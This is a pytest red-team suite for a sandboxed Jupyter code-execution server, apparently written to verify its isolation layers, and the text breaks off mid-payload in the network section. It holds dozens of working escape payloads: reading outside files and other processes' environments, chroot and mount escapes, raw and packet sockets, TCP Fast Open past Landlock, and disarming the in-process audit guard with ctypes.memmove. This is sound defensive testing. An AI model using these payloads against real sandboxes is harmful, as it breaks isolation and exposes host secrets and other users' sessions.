"""Red team: escape attempts through ``execute_code``, judged by their side effects, not by error messages.

Written as an attacker would: every payload runs in the ``standard`` and the ``strict`` profile, from two
attacker sessions at once (see tests/redteam/runner.py):

* **guard** mode: the payload as a cell, behind the in-kernel guard. Under strict too it reaches modules
  the attacker's way (``().__class__.__base__.__subclasses__()`` -> ``os._wrap_close`` globals -> ``sys``;
  ``sys.modules``; the real ``__import__`` out of the guard's own closure).
* **os** mode: first switches the guard off (ctypes.memmove over the audit hook's closure cells, found
  through a refusal's traceback frame -> ``f_frame->f_func``; and the guard module's event sets, reachable
  as ``sys.modules['_kernelexec_guard']``), then runs the payload in a sub-interpreter (no audit hooks at
  all), or in the main interpreter for fork/zmq/IPython payloads. This is the OS layers alone.

The outside world is watched from the host (tests/redteam/world.py): canary files under /tmp and /var/tmp
with inotify (any open/read/write/create by any process), a ``--read-dirs`` canary that must never change,
TCP/TCP6/UDP/DNS(127.0.0.1:53)/pathname-unix/abstract-unix listeners that must receive nothing, signal
handlers in this process (= the server, in-memory harness), secrets in the server's environment and
memory and in session B (its file, its variable, its HMAC key) that must appear in no answer, a marker a
spawned process would write in the attacker's own directory, the kernels' /proc status/limits/namespaces
and cgroup files, the host's hostname.

Tally (876 cells in 475 tests; "attempts" = cells sent; run on Linux 6.18, Landlock ABI 7, bwrap 0.8, root, cgroup v1;
"stopped by" is the first layer that refused, read from the errno; every one is then judged by side effect):

| category (test) | payloads | attempts | guard mode: stopped by | os mode (guard off): stopped by | escapes |
|---|---|---|---|---|---|
| files read (test_read_outside) | 38 | 152 | guard 65/76; sqlite ATTACH/connect, /proc/1/root, chdir reach the OS: Landlock/bwrap | bwrap (path absent) 48, Landlock 14, seccomp 8 (umount2, mount, chroot, open_by_handle_at), ran without effect 6 | 0 |
| files write (test_write_outside) | 40 | 160 | guard 74/80; sqlite3, mkfifo (no audit event) -> Landlock/seccomp | Landlock 36, bwrap read-only bind 24, EXDEV (Landlock REFER / mount boundary) 12, bwrap 4, seccomp 4 | 0 |
| network (test_network) | 31 | 122 | guard 52/62; libzmq (no audit events): no effect 4, aborted its own kernel 2; socketpair -> seccomp 2; asyncio refused by CPython 2 | seccomp socket() 24, Landlock TCP 15, netns/no resolver 6, bwrap (host socket absent) 4, netns 4 (TFO SYN into the kernel's own lo; abstract), zmq without effect 4 | 0 |
| signals (test_signals) | 11 | 44 | guard 16/22, pid namespace 6 | pid namespace (ESRCH) 18, seccomp 2, own group only 2 | 0 |
| processes (test_processes) | 29 | 116 | guard 44/58; _posixsubprocess.fork_exec (no event) -> seccomp | seccomp (fork/vfork/clone/clone3/execve) 40, Landlock (/dev/ptmx) 4, ran without a process 12 (system() -> 127) | 0 (*) |
| another session (test_other_session*) | 16 + IOPub sniff | 72 | guard 24/34; zmq -> OS | bwrap (B's files and sockets absent) 16, pid namespace 4, Landlock 2, seccomp 2; zmq: no peer 10 | 0 |
| limits/privileges (test_limits_and_privileges) | 26 | 104 | guard 42/52, seccomp 6, Landlock 4 | seccomp 40, bwrap (/sys/fs/cgroup absent) 4, Landlock 4, EINVAL 2, ENOSYS 2 | 0 |
| other processes (test_other_processes) | 9 | 36 | guard 16/18, pid ns 2 | seccomp 8, Landlock 6, bwrap 2, pid ns 2 | 0 |
| guard bypasses (test_guard_bypass_*) | 13 | 28 | guard bypassed by 5 techniques (guard module globals, cell_contents, memmove, runtime.bypass(), IPython startup file); 10 real attempts after each: all stopped by Landlock/bwrap/seccomp/pid ns. Held: rebinding __import__, %reset -f, gc, CodeType/replace, marshal, sub-interpreter, threads, finalizers | - | 0 |
| server as deputy (test_server_*) | 8 scenarios | 29 | guard 14 (symlink targets must be readable) | session root read-only (bwrap/Landlock) 13; **ipc/ socket symlinks: escape** | 2 (+21 before the session-dir fix) |
| no bubblewrap, no netns (test_without_bubblewrap_or_netns) | 17 | 17 | - | Landlock 7, seccomp 5 | **4** |

(*) ``os.execv`` of /bin/sh, of the interpreter, from a thread, of a script in work/ (8 cells) replaced
the kernel and ran before ``deny_exec`` (seccomp execve filter in kernel_main) and Landlock ``exec`` rules
were added; the same tests now pass. Likewise the server-deputy attacks on journal.jsonl, outputs/*,
outputs/ itself (resource read of any file), .session.json.tmp and kernel.log (host file read + append as
root) and the non-empty capability bounding set, before the session root became read-only to the kernel.

Open findings (these tests fail until fixed; none is marked xfail: each can be closed in kernelexec):
1. test_server_reconnects_through_planted_ipc_symlinks: the kernel replaces its own ``ipc/k-<port>`` socket
   files by symlinks to a host unix socket and exits; the server's jupyter_client (root, no sandbox)
   reconnects through them. Fix: no MAKE_SYM/REMOVE_FILE for the kernel in ipc/ (only MAKE_SOCK), or
   sockets in a server-owned directory the kernel can only bind in.
2. test_without_bubblewrap_or_netns (a machine without usable user namespaces, so no bwrap, no netns;
   Landlock present, so no --allow-degraded needed): TCP Fast Open (``sendto(MSG_FASTOPEN)``) connects
   past Landlock's CONNECT_TCP rule; pathname unix sockets (host daemons, other sessions' kernels: raw
   connect, zmq heartbeat echo) are reachable (Landlock ABI 7 has no right for them). Fix: seccomp
   ``connect`` -> EACCES and ``sendto``/``sendmsg`` with MSG_FASTOPEN -> EACCES when there is no network
   (verified here: a kernel with connect() denied still prints, plots, displays, awaits, %timeit's).
"""

from __future__ import annotations

import glob
import json
import os
import re
import secrets
import shutil
import socket
import textwrap
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import anyio
import pytest

from .conftest import Harness, make_settings, start_harness
from .redteam.runner import NOT_INSTALLED, attack_cell, install_cell
from .redteam.world import World, destroy_world, digest, drain, kernel_pids, make_world, process_state, still_alive

pytestmark = pytest.mark.anyio

PROFILES = ["standard", "strict"]
MODES = ["guard", "os"]
OUTCOMES: list[dict[str, Any]] = []  # every attempt's answer, for the tally (KXRT_REDTEAM_TALLY=<file> dumps it)


# --- the attacked servers -------------------------------------------------------------------------
@dataclass
class Target:
    profile: str
    h: Harness
    cm: Any
    state_dir: Path
    handles: dict[str, str] = field(default_factory=dict)  # "guard", "os" (attackers), "b" (victim)
    dirs: dict[str, Path] = field(default_factory=dict)
    b_file: Path | None = None
    b_file_secret: str = ""
    b_var_secret: str = ""
    b_key: str = ""
    b_sockets: dict[str, str] = field(default_factory=dict)

    _b_pid: int = -1

    def b_pid(self) -> int:
        if self._b_pid <= 0 or not still_alive(self._b_pid):  # scanning /proc costs ms: only when it changed
            pids = kernel_pids(self.dirs["b"])
            self._b_pid = pids[0] if pids else -1
        return self._b_pid

    def leak_tokens(self) -> dict[str, str]:
        return {
            "session B's secret file": self.b_file_secret,
            "session B's variable": self.b_var_secret,
            "session B's HMAC key": self.b_key,
        }


async def start_target(world: World, base: Path, profile: str) -> Target:
    settings = make_settings(base, profile=profile, read_dirs=[world.ro_dir])
    h, cm = await start_harness(settings)
    return Target(profile=profile, h=h, cm=cm, state_dir=settings.state_dir)


async def open_sessions(t: Target, roles: tuple[str, ...] = ("guard", "os", "b", "bypass")) -> None:
    """The attackers (one per mode, one for guard bypasses) and the victim B, all started in parallel."""
    async def open_session(role: str) -> None:
        handle = await t.h.new_session()
        r = await t.h.run("1", session=handle)
        t.handles[role] = handle
        t.dirs[role] = Path(r["notebook"]).parent

    async with anyio.create_task_group() as tg:
        for role in roles:
            tg.start_soon(open_session, role)
    t.b_file_secret = f"KXRTBFILE{secrets.token_hex(12)}"
    t.b_var_secret = f"KXRTBVAR{secrets.token_hex(12)}"
    t.b_file = t.dirs["b"] / "work" / "b-secret.txt"
    t.b_file.write_text(f"session B's file: {t.b_file_secret}\n")  # as if B had written it
    r = await t.h.run(f"bsecret = {t.b_var_secret!r}", session=t.handles["b"])
    assert r["success"], r
    conn = json.loads((t.dirs["b"] / "kernel.json").read_text())
    t.b_key = conn["key"]
    assert conn["transport"] == "ipc"
    t.b_sockets = {name[: -len("_port")]: f"{conn['ip']}-{conn[name]}" for name in conn if name.endswith("_port")}


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    w = make_world()
    yield w
    destroy_world(w)
    dump = os.environ.get("KXRT_REDTEAM_TALLY")
    if dump:
        Path(dump).write_text(json.dumps(OUTCOMES, indent=1))


@pytest.fixture(scope="module")
async def targets(world: World, short_tmp: Path) -> AsyncIterator[dict[str, Target]]:
    started: dict[str, Target] = {}
    try:
        for profile in PROFILES:  # servers one after the other (each owns a task group), kernels all at once
            started[profile] = await start_target(world, short_tmp, profile)
        async with anyio.create_task_group() as tg:
            for t in started.values():
                tg.start_soon(open_sessions, t)
        yield started
    finally:
        for t in reversed(list(started.values())):
            await t.h.client.__aexit__(None, None, None)
            await t.cm.__aexit__(None, None, None)


# --- one attack and its judgement -----------------------------------------------------------------
def params_for(world: World, t: Target, role: str, tag: str) -> dict[str, Any]:
    me = t.dirs[role]
    return {
        "secret": str(world.secret_file),
        "secret_dir": str(world.secret_dir),
        "ro_dir": str(world.ro_dir),
        "ro_canary": str(world.ro_canary),
        "outside_root": str(world.root),
        "state_dir": str(t.state_dir),
        **world.outside_targets(tag),
        "state_new": str(t.state_dir / f"created-{tag}"),
        "tcp": world.tcp.getsockname()[1],
        "tcp6": world.tcp6.getsockname()[1] if world.tcp6 else None,
        "udp": world.udp.getsockname()[1],
        "unix": str(world.unix_path),
        "abstract": world.abstract_name,
        "pid": world.pid,
        "pgid": os.getpgrp(),
        "mem_addr": id(world.mem_secret) + 32,  # PyBytesObject data in this (the server's) process
        "mem_len": len(world.mem_secret),
        "session_dir": str(me),
        "marker": str(me / "work" / f"spawned-{tag}"),
        "shcmd": f"echo spawned > {me / 'work' / f'spawned-{tag}'}",
        "b_dir": str(t.dirs["b"]),
        "b_file": str(t.b_file),
        "b_marker": str(t.dirs["b"] / "work" / f"pwned-{tag}"),
        "b_sockets": t.b_sockets,
        "b_pid": t.b_pid(),
    }


@dataclass
class Attack:
    answer: dict[str, Any]
    result: str
    params: dict[str, Any]
    mode: str = ""


async def attack(world: World, t: Target, mode: str, payload: str, tag: str, *, category: str, name: str,
                 extra: dict[str, Any] | None = None, role: str | None = None) -> Attack:
    """Send one attack cell from session ``role`` (default: the session kept for ``mode``)."""
    role = role or mode
    world.inotify.events()  # forget our own earlier reads
    params = params_for(world, t, role, tag) | (extra or {})
    cell = attack_cell(textwrap.dedent(payload), params, mode)
    answer = await t.h.run(cell, session=t.handles[role], timeout=30)
    if answer.get("result") == NOT_INSTALLED:  # a fresh kernel: install the helpers, then attack
        installed = await t.h.run(install_cell(mode), session=t.handles[role], timeout=30)
        assert installed["success"], installed
        answer = await t.h.run(cell, session=t.handles[role], timeout=30)
    result = answer.get("result")
    result = result if isinstance(result, str) else json.dumps(answer.get("result"))
    if not answer.get("success"):
        result = f"cell failed: {answer.get('error')} ending={answer.get('ending')} {answer.get('restart_reason') or ''}"
    if mode == "os" and result.startswith("DISARM FAILED"):
        pytest.skip(f"os mode needs the guard switched off first, and that no longer works (good): {result}")
    OUTCOMES.append({"category": category, "profile": t.profile, "mode": mode, "payload": name, "result": result[:300]})
    return Attack(answer=answer, result=result, params=params, mode=mode)


async def assert_untouched(world: World, t: Target, *attacks: Attack) -> None:
    """The side effects every attempt is judged on, whatever it tried (several attempts: judged together,
    each attributed where the evidence carries its tag: files it created, its marker, its own answer)."""
    problems = []
    await anyio.sleep(0)  # a signal that reached us has been delivered already; its handler runs at the next bytecode
    events = world.inotify.events()  # first: our own checks below list and read the watched directories
    if events:
        problems.append(f"outside files were touched: {events}")
    for a in attacks:
        text = json.dumps(a.answer)
        for what, token in (world.leak_tokens() | t.leak_tokens()).items():
            if token and token in text:
                problems.append(f"[{a.mode}] LEAK: {what} appears in the answer")
        for key in ("new", "var_new", "ro_new", "state_new"):
            made = glob.glob(glob.escape(a.params[key]) + "*")
            if made:
                problems.append(f"[{a.mode}] created outside: {made}")
                for path in made:
                    shutil.rmtree(path, ignore_errors=True) if os.path.isdir(path) and not os.path.islink(path) else os.unlink(path)
        for key in ("marker", "b_marker"):
            if os.path.lexists(a.params[key]):
                problems.append(f"[{a.mode}] a spawned/foreign process ran: {a.params[key]} exists")
                os.unlink(a.params[key])
        if "AssertionError" in a.result:
            problems.append(f"[{a.mode}] the payload saw its own attack succeed (AssertionError/ESCAPE in its result)")
    if digest(world.ro_canary) != world.ro_state:
        problems.append("the read-only canary changed")
    if digest(world.secret_file) != world.secret_state:
        problems.append("the secret file changed")
    world.inotify.events()  # our own globs and digests
    for name, sock in world.listeners.items():
        got = drain(sock)
        if got:
            problems.append(f"the {name} listener received: {got}")
    if world.signals:
        problems.append(f"the server process received signals: {dict(world.signals)}")
        world.signals.clear()
    if socket.gethostname() != world.hostname:
        problems.append(f"the host's hostname changed to {socket.gethostname()!r}")
    b_pid = attacks[0].params["b_pid"] if attacks else -1
    if b_pid > 0 and not still_alive(b_pid):
        problems.append("session B's kernel was killed")
    results = "\n".join(f"[{a.mode}] {a.result}" for a in attacks)
    assert not problems, f"{results}\n" + "\n".join(problems)


def cases(table: dict[str, str | tuple[str, dict[str, Any]]]) -> list[Any]:
    """pytest params: profile x payload; the modes of one payload run at once (different sessions, in parallel)."""
    out = []
    for name, spec in table.items():
        code, opts = (spec, {}) if isinstance(spec, str) else spec
        for profile in opts.get("profiles", PROFILES):
            modes = tuple(opts.get("modes", MODES))
            out.append(pytest.param(profile, name, code, modes, id=f"{profile}-{name}"))
    return out


async def run_case(world: World, targets: dict[str, Target], category: str, profile: str, name: str, code: str,
                   modes: tuple[str, ...]) -> list[Attack]:
    """The payload from each mode's attacker session at once, then the side effects of all of them."""
    t = targets[profile]
    extra = {"_main": True} if code.lstrip().startswith("# main interpreter") else None
    attacks: dict[str, Attack] = {}

    async def one(mode: str) -> None:
        tag = f"{name}-{profile}-{mode}-{secrets.token_hex(3)}"
        attacks[mode] = await attack(world, t, mode, code, tag, category=category, name=name, extra=extra)

    async with anyio.create_task_group() as tg:
        for mode in modes:
            tg.start_soon(one, mode)
    ordered = [attacks[m] for m in modes]
    await assert_untouched(world, t, *ordered)
    return ordered


# =================================================================================================
# 1. Reading files outside the session
# =================================================================================================
FILE_READS: dict[str, Any] = {
    "open": "out = open(P['secret']).read()",
    "io.open": "out = M('io').open(P['secret']).read()",
    "_io.FileIO": "out = M('_io').FileIO(P['secret']).read()",
    "os.open": "os = M('os'); out = os.read(os.open(P['secret'], os.O_RDONLY), 4096)",
    "pathlib": "out = M('pathlib').Path(P['secret']).read_text()",
    "linecache": "out = M('linecache').getlines(P['secret'])",
    "runpy.run_path": "out = M('runpy').run_path(P['secret'])",  # a NameError would echo the secret
    "listdir": "out = M('os').listdir(P['secret_dir'])",
    "scandir": "out = [e.name for e in M('os').scandir(P['secret_dir'])]",
    "glob": "out = M('glob').glob(P['secret_dir'] + '/*')",
    "proc-self-root": "out = open('/proc/self/root' + P['secret']).read()",
    "proc-1-root": "out = open('/proc/1/root' + P['secret']).read()",
    "proc-self-cwd-dotdot": "out = open('/proc/self/cwd/' + '../' * 12 + P['secret'].lstrip('/')).read()",
    "dotdot-from-session": "out = open(P['session_dir'] + '/work/' + '../' * 12 + P['secret'].lstrip('/')).read()",
    "proc-ppid-environ": "os = M('os'); out = open(f'/proc/{os.getppid()}/environ', 'rb').read()",
    "proc-1-environ": "out = open('/proc/1/environ', 'rb').read()",
    "proc-server-environ": "out = open(f\"/proc/{P['pid']}/environ\", 'rb').read()",
    "proc-server-cmdline+cwd": "os = M('os'); out = (open(f\"/proc/{P['pid']}/cmdline\", 'rb').read(), os.listdir(f\"/proc/{P['pid']}/cwd\"))",
    "chdir-then-relative": "os = M('os'); os.chdir(P['secret_dir']); out = open('secret.txt').read()",
    "dir_fd-root": """
        os = M('os')
        fd = os.open('/', os.O_RDONLY | os.O_DIRECTORY)
        out = os.read(os.open(P['secret'].lstrip('/'), os.O_RDONLY, dir_fd=fd), 4096)
    """,
    "dir_fd-session-dotdot": """
        os = M('os')
        fd = os.open(P['session_dir'], os.O_RDONLY | os.O_DIRECTORY)
        out = os.read(os.open('../' * 12 + P['secret'].lstrip('/'), os.O_RDONLY, dir_fd=fd), 4096)
    """,
    "O_PATH-then-proc-fd": """
        os = M('os')
        fd = os.open(P['secret'], os.O_PATH)
        out = open(f'/proc/self/fd/{fd}').read()
    """,
    "symlink-in-session": """
        os = M('os')
        link = P['session_dir'] + '/work/ln-' + str(id(P))
        os.symlink(P['secret'], link)
        try:
            out = open(link).read()
        finally:
            os.unlink(link)
    """,
    "symlink-dir-in-session": """
        os = M('os')
        link = P['session_dir'] + '/work/lnd-' + str(id(P))
        os.symlink(P['secret_dir'], link)
        try:
            out = (os.listdir(link), open(link + '/secret.txt').read())
        finally:
            os.unlink(link)
    """,
    "hardlink-into-session": """
        os = M('os')
        link = P['session_dir'] + '/work/hl-' + str(id(P))
        os.link(P['secret'], link)
        try:
            out = open(link).read()
        finally:
            os.unlink(link)
    """,
    "shutil.copy-in": """
        dst = P['session_dir'] + '/work/copy-' + str(id(P))
        M('shutil').copy(P['secret'], dst)
        out = open(dst).read()
    """,
    "mmap": """
        mmap = M('mmap')
        f = open(P['secret'], 'rb')
        out = mmap.mmap(f.fileno(), 0, prot=mmap.PROT_READ)[:]
    """,
    "sqlite3-connect": "out = M('sqlite3').connect(P['secret']).execute('select * from sqlite_master').fetchall()",
    "sqlite3-attach": """
        con = M('sqlite3').connect(':memory:')
        con.execute("ATTACH DATABASE ? AS s", (P['secret'],))
        out = con.execute('select * from s.sqlite_master').fetchall()
    """,
    "dev-mem": "data = open('/dev/mem', 'rb').read(64); raise AssertionError('ESCAPE: read /dev/mem')",
    "dev-raw-disk": """
        os = M('os')
        disks = [d for d in os.listdir('/dev') if d.startswith(('vd', 'sd', 'nvme', 'xvd'))]
        data = open('/dev/' + disks[0], 'rb').read(512)
        raise AssertionError('ESCAPE: read a raw disk')
    """,
    "ctypes-libc-open": """
        c = libc()
        fd = check(c.open(P['secret'].encode(), 0), 'open')
        buf = M('ctypes').create_string_buffer(4096)
        out = buf.raw[: check(c.read(fd, buf, 4096), 'read')]
    """,
    "ctypes-openat2-resolve": """
        ct = M('ctypes'); c = libc()
        how = (ct.c_uint64 * 3)(0, 0, 0)
        fd = check(c.syscall(437, -100, P['secret'].encode(), how, 24), 'openat2')
        out = M('os').read(fd, 4096)
    """,
    "ctypes-open_by_handle_at": """
        ct = M('ctypes'); c = libc()
        handle = ct.create_string_buffer(8 + 128)
        ct.memmove(handle, (128).to_bytes(4, 'little'), 4)
        mount_id = ct.c_int()
        check(c.name_to_handle_at(-100, b'/', handle, ct.byref(mount_id), 0), 'name_to_handle_at')
        out = check(c.open_by_handle_at(-100, handle, 0), 'open_by_handle_at')
    """,
    "umount-private-tmp": """
        c = libc()
        check(c.umount2(b'/tmp', 2), 'umount2 /tmp')
        out = open(P['secret']).read()
    """,
    "mount-host-root": """
        c = libc()
        os = M('os')
        d = P['session_dir'] + '/work/mnt'
        os.makedirs(d, exist_ok=True)
        check(c.mount(b'/dev/vda', d.encode(), b'ext4', 1, None), 'mount')
        out = os.listdir(d)
    """,
    "chroot-escape": """
        os = M('os')
        d = P['session_dir'] + '/work/chr'
        os.makedirs(d, exist_ok=True)
        os.chroot(d)
        os.chdir('../../../../../../../../')
        os.chroot('.')
        out = open(P['secret']).read()
    """,
    "fd-inventory": """
        os = M('os')
        fds = {}
        for fd in os.listdir('/proc/self/fd'):
            try:
                fds[fd] = os.readlink('/proc/self/fd/' + fd)
            except OSError as e:
                fds[fd] = repr(e)
        outside = {k: v for k, v in fds.items() if v.startswith('/') and not v.startswith((P['session_dir'], '/dev/', '/proc/'))}
        assert not outside, outside
        out = outside
    """,
}


@pytest.mark.parametrize(("profile", "name", "code", "modes"), cases(FILE_READS))
async def test_read_outside(world: World, targets: dict[str, Target], profile: str, name: str, code: str, modes: tuple[str, ...]) -> None:
    await run_case(world, targets, "files-read", profile, name, code, modes)


# =================================================================================================
# 2. Writing files outside the session (creating, changing the read-only canary)
# =================================================================================================
FILE_WRITES: dict[str, Any] = {
    "open-w": "open(P['new'], 'w').write('pwned')",
    "open-w-var-tmp": "open(P['var_new'], 'w').write('pwned')",
    "open-w-state-dir": "open(P['state_new'], 'w').write('pwned')",
    "open-w-readonly-dir": "open(P['ro_new'], 'w').write('pwned')",
    "open-a-readonly-canary": "open(P['ro_canary'], 'a').write('pwned')",
    "open-r+-readonly-canary": "open(P['ro_canary'], 'r+').write('pwned')",
    "str-subclass-mode": """
        class Mode(str):
            def __contains__(self, item):
                return False
            def __iter__(self):
                return iter('r')
        open(P['ro_canary'], Mode('a')).write('pwned')
    """,
    "os.open-creat": "os = M('os'); os.write(os.open(P['new'], os.O_CREAT | os.O_WRONLY), b'pwned')",
    "os.open-trunc-canary": "os = M('os'); os.open(P['ro_canary'], os.O_WRONLY | os.O_TRUNC)",
    "pathlib.write_text": "M('pathlib').Path(P['ro_new']).write_text('pwned')",
    "os.truncate-canary": "M('os').truncate(P['ro_canary'], 0)",
    "os.remove-canary": "M('os').remove(P['ro_canary'])",
    "os.chmod-canary": "M('os').chmod(P['ro_canary'], 0o777)",
    "os.utime-canary": "M('os').utime(P['ro_canary'], (0, 0))",
    "os.setxattr-canary": "M('os').setxattr(P['ro_canary'], 'user.kxrt', b'pwned')",
    "os.rename-canary-in": "M('os').rename(P['ro_canary'], P['session_dir'] + '/work/stolen')",
    "os.rename-out": """
        src = P['session_dir'] + '/work/to-move'
        open(src, 'w').write('pwned')
        M('os').rename(src, P['new'])
    """,
    "os.replace-over-canary": """
        src = P['session_dir'] + '/work/to-move2'
        open(src, 'w').write('pwned')
        M('os').replace(src, P['ro_canary'])
    """,
    "os.mkdir": "M('os').mkdir(P['new'])",
    "os.makedirs-var": "M('os').makedirs(P['var_new'] + '/a/b')",
    "os.symlink-out": "M('os').symlink('/etc/passwd', P['new'])",
    "os.link-out": """
        src = P['session_dir'] + '/work/to-link'
        open(src, 'w').write('pwned')
        M('os').link(src, P['new'])
    """,
    "hardlink-canary-then-write": """
        os = M('os')
        link = P['session_dir'] + '/work/hlc-' + str(id(P))
        os.link(P['ro_canary'], link)
        open(link, 'a').write('pwned')
    """,
    "symlink-in-session-write-through": """
        os = M('os')
        link = P['session_dir'] + '/work/lnw-' + str(id(P))
        os.symlink(P['new'], link)
        try:
            open(link, 'w').write('pwned')
        finally:
            os.unlink(link)
    """,
    "dir_fd-creat": """
        os = M('os')
        fd = os.open('/', os.O_RDONLY | os.O_DIRECTORY)
        os.write(os.open(P['new'].lstrip('/'), os.O_CREAT | os.O_WRONLY, dir_fd=fd), b'pwned')
    """,
    "dir_fd-session-dotdot-creat": """
        os = M('os')
        fd = os.open(P['session_dir'], os.O_RDONLY | os.O_DIRECTORY)
        os.open('../' * 12 + P['new'].lstrip('/'), os.O_CREAT | os.O_WRONLY, dir_fd=fd)
    """,
    "proc-self-root-write": "open('/proc/self/root' + P['new'], 'w').write('pwned')",
    "shutil.copy-out": """
        src = P['session_dir'] + '/work/to-copy'
        open(src, 'w').write('pwned')
        M('shutil').copy(src, P['new'])
    """,
    "shutil.move-out": """
        src = P['session_dir'] + '/work/to-move3'
        open(src, 'w').write('pwned')
        M('shutil').move(src, P['var_new'])
    """,
    "tempfile.mkstemp-outside": "out = M('tempfile').mkstemp(dir=P['outside_root'], prefix='created-')",
    "sqlite3-attach-create": """
        con = M('sqlite3').connect(':memory:')
        con.execute("ATTACH DATABASE ? AS x", (P['new'],))
        con.execute('create table x.t(a)')
        con.commit()
    """,
    "sqlite3-connect-create": "M('sqlite3').connect(P['ro_new']).execute('create table t(a)')",
    "os.mkfifo": "M('os').mkfifo(P['new'])",
    "unix-bind-outside": "s = M('socket').socket(1, 1); s.bind(P['new'])",
    "mmap-write-canary": """
        mmap = M('mmap')
        f = open(P['ro_canary'], 'r+b')
        m = mmap.mmap(f.fileno(), 0)
        m[:5] = b'pwned'
        m.flush()
    """,
    "ctypes-libc-creat": "check(libc().creat(P['new'].encode(), 0o644), 'creat')",
    "ctypes-libc-rename-canary": "check(libc().rename(P['ro_canary'].encode(), (P['session_dir'] + '/work/st').encode()), 'rename')",
    "proc-sys-hostname": "open('/proc/sys/kernel/hostname', 'w').write('kxrt-pwned')",
    "sethostname": "check(libc().sethostname(b'kxrt-pwned', 10), 'sethostname')",
    "proc-self-mem-write": """
        # patch our own memory through /proc/self/mem (a way to disarm anything in-process)
        buf = bytes(bytearray(b'original'))
        with open('/proc/self/mem', 'r+b', buffering=0) as mem:
            mem.seek(id(buf) + 32)  # PyBytesObject.ob_sval
            mem.write(b'PATCHED!')
        out = buf
        assert out != b'PATCHED!', 'PATCHED through /proc/self/mem'
    """,
}


@pytest.mark.parametrize(("profile", "name", "code", "modes"), cases(FILE_WRITES))
async def test_write_outside(world: World, targets: dict[str, Target], profile: str, name: str, code: str, modes: tuple[str, ...]) -> None:
    await run_case(world, targets, "files-write", profile, name, code, modes)


# =================================================================================================
# 3. Network: every socket family, loopback listeners owned by the test, DNS, libzmq's own sockets
# =================================================================================================
_UDP_PACKET = """
    socket = M('socket'); struct = M('struct')
    def csum(b):
        s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
        s = (s >> 16) + (s & 0xffff)
        return ~(s + (s >> 16)) & 0xffff
    data = b'pwned'
    udp = struct.pack('!HHHH', 40000, P['udp'], 8 + len(data), 0) + data
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                     socket.inet_aton('127.0.0.1'), socket.inet_aton('127.0.0.1'))
    ip = ip[:10] + struct.pack('!H', csum(ip)) + ip[12:]
"""
NETWORK: dict[str, Any] = {
    "tcp-connect": "s = M('socket').create_connection(('127.0.0.1', P['tcp']), timeout=2); s.sendall(b'pwned'); out = 'connected'",
    "tcp-connect-localhost-name": "s = M('socket').create_connection(('localhost', P['tcp']), timeout=2); s.sendall(b'pwned')",
    "tcp6-connect": "s = M('socket').create_connection(('::1', P['tcp6']), timeout=2); s.sendall(b'pwned')",
    "tcp-fastopen-sendto": """
        socket = M('socket')
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(2)
        s.sendto(b'pwned', 0x20000000, ('127.0.0.1', P['tcp']))  # MSG_FASTOPEN: connect inside sendto
    """,
    "tcp-connect_ex-nonblocking": """
        socket = M('socket')
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        out = s.connect_ex(('127.0.0.1', P['tcp']))
        M('time').sleep(0.3)
        s.send(b'pwned')
    """,
    "udp-sendto": "s = M('socket').socket(2, 2); s.sendto(b'pwned', ('127.0.0.1', P['udp']))",
    "udp-connect-send": "s = M('socket').socket(2, 2); s.connect(('127.0.0.1', P['udp'])); s.send(b'pwned')",
    "udp6-sendto-v4mapped": "s = M('socket').socket(10, 2); s.sendto(b'pwned', ('::ffff:127.0.0.1', P['udp']))",
    "raw-ip-udp-crafted": _UDP_PACKET + """
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    s.sendto(udp, ('127.0.0.1', 0))
    """,
    "raw-ip-hdrincl": _UDP_PACKET + """
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.sendto(ip + udp, ('127.0.0.1', 0))
    """,
    "af_packet-frame-on-lo": _UDP_PACKET + """
    s = socket.socket(17, socket.SOCK_RAW, socket.htons(0x0800))
    s.bind(('lo', 0))
    s.send(b'\\0' * 12 + b'\\x08\\x00' + ip + udp)
    """,
    "af_packet-dgram": "s = M('socket').socket(17, 2, 0); raise AssertionError('ESCAPE: AF_PACKET socket opened')",
    "netlink-route-dump": """
        socket = M('socket'); struct = M('struct')
        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
        s.settimeout(2)
        s.send(struct.pack('=IHHII', 32, 18, 0x301, 1, 0) + struct.pack('=BxHiII', 0, 0, 0, 0, 0))  # RTM_GETLINK dump
        out = s.recv(65536)
    """,
    "netlink-audit": "s = M('socket').socket(16, 3, 9); raise AssertionError('ESCAPE: NETLINK_AUDIT socket opened')",
    "af_vsock-host": "s = M('socket').socket(40, 1); s.settimeout(2); s.connect((2, 22)); raise AssertionError('ESCAPE: vsock to host')",
    "socketpair-inet": "M('socket').socketpair(2, 1); raise AssertionError('ESCAPE: AF_INET socketpair')",
    "abstract-unix": "s = M('socket').socket(1, 1); s.settimeout(2); s.connect('\\0' + P['abstract']); s.sendall(b'pwned'); out = 'connected'",
    "pathname-unix-host-socket": "s = M('socket').socket(1, 1); s.settimeout(2); s.connect(P['unix']); s.sendall(b'pwned'); out = 'connected'",
    "pathname-unix-via-proc-root": "s = M('socket').socket(1, 1); s.settimeout(2); s.connect('/proc/1/root' + P['unix']); s.sendall(b'pwned')",
    "pathname-unix-via-symlink": """
        os = M('os')
        link = P['session_dir'] + '/work/sk-' + str(id(P))
        os.symlink(P['unix'], link)
        s = M('socket').socket(1, 1); s.settimeout(2)
        try:
            s.connect(link); s.sendall(b'pwned')
        finally:
            os.unlink(link)
    """,
    "dns-getaddrinfo": "out = M('socket').getaddrinfo('kxrt-probe.example.com', 80)",
    "dns-gethostbyname": "out = M('socket').gethostbyname('kxrt-probe.example.com')",
    "dns-raw-query-127.0.0.53": "s = M('socket').socket(2, 2); s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01' + b'\\x00' * 6, ('127.0.0.53', 53))",
    "urllib-urlopen": "out = M('urllib.request').urlopen('http://127.0.0.1:%d/' % P['tcp'], timeout=2).read()",
    "http.client": "c = M('http.client').HTTPConnection('127.0.0.1', P['tcp'], timeout=2); c.request('GET', '/pwned')",
    "asyncio-open_connection": """
        asyncio = M('asyncio')
        async def go():
            r, w = await asyncio.wait_for(asyncio.open_connection('127.0.0.1', P['tcp']), 2)
